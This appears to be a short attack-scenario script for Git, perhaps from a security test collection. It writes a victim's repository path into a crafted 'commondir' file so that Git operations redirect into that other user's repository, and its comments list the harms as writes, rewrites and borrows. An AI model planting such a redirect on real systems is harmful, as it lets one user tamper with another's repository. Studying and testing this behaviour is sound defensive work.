#!/bin/bash -e
# commondir leads to a repository of the user.
# host: commit, config
# harm: writes rewrites borrows
# alone
echo "$VICTIM/repository/.git" >"$GITDIR/commondir"
